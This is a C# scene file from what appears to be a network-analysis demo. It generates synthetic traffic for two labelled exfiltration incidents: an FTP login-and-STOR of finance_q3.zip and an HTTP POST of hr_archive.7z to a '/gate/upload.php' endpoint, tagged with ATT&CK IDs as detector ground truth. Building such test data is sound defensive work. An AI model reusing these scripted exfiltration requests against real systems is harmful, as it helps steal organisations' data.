using System.Globalization;
using System.Text;
using Portal.Analysis.Demo.Wire;

namespace Portal.Analysis.Demo.Scenes;

/// <summary>One archive leaves by FTP, one by HTTP POST.</summary>
internal sealed class UploadScene : IScene
{
    private const string Ftp = "exfil-ftp";
    private const string Post = "exfil-post";
    private const int FtpBytes = 1_180_000;
    private const int PostBytes = 860_000;

    public IEnumerable<IncidentTruth> Truths =>
        [
            new(Ftp, "10.1.5.42", "203.0.113.50", 21, ["T1048.003"], "finance_q3.zip uploaded by FTP"),
            new(Post, "10.1.5.42", "185.220.101.42", 80, ["T1041"], "hr_archive.7z uploaded by HTTP POST"),
        ];

    public IEnumerable<IncidentTruth> LookAlikes => [];

    public void Play(Network network)
    {
        PlayFtp(network);
        PlayPost(network);
    }

    private static void PlayFtp(Network network)
    {
        var random = network.Random;
        var start = Names.Resolve(
            network,
            Ftp,
            IncidentPlan.Victim,
            IncidentPlan.FileDrop,
            IncidentPlan.At("16:40:02")
        );
        var control = new TcpConversation(network, Ftp, IncidentPlan.Victim, IncidentPlan.FileDrop, 21, start);
        Reply(control, "220 ready");
        Command(control, "USER deposit", "331 password please");
        Command(control, "PASS Winter2025", "230 logged in");
        Command(control, "TYPE I", "200 binary");
        Command(control, "PASV", "227 Entering Passive Mode (203,0,113,50,195,81)");
        var data = new TcpConversation(network, Ftp, IncidentPlan.Victim, IncidentPlan.FileDrop, 50_001, control.Time);
        control.Wait(0.1);
        Command(control, "STOR finance_q3.zip", "150 go ahead");
        data.Wait(0.3);
        data.ClientSends([0x50, 0x4b, 0x03, 0x04, .. random.Bytes(FtpBytes - 4)]);
        data.Close();
        control.Wait(Math.Max(0, (data.Time - control.Time) / 1e9));
        Reply(control, "226 done");
        Command(control, "QUIT", "221 bye");
        control.Close();
    }

    private static void PlayPost(Network network)
    {
        var random = network.Random;
        var tcp = new TcpConversation(
            network,
            Post,
            IncidentPlan.Victim,
            IncidentPlan.Command,
            80,
            IncidentPlan.At("17:05:33")
        );
        tcp.ClientSends(
            Text(
                "POST /gate/upload.php HTTP/1.1\r\nHost: 185.220.101.42\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0)\r\n"
                    + "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"hr_archive.7z\"\r\n"
                    + $"Content-Length: {PostBytes.ToString(CultureInfo.InvariantCulture)}\r\n\r\n"
            )
        );
        tcp.ClientSends([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, .. random.Bytes(PostBytes - 6)]);
        tcp.ServerSends(Text("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok"));
        tcp.Close();
    }

    private static void Command(TcpConversation control, string command, string reply)
    {
        control.ClientSends(Text(command + "\r\n"));
        Reply(control, reply);
    }

    private static void Reply(TcpConversation control, string reply) => control.ServerSends(Text(reply + "\r\n"));

    private static byte[] Text(string text) => Encoding.ASCII.GetBytes(text);
}
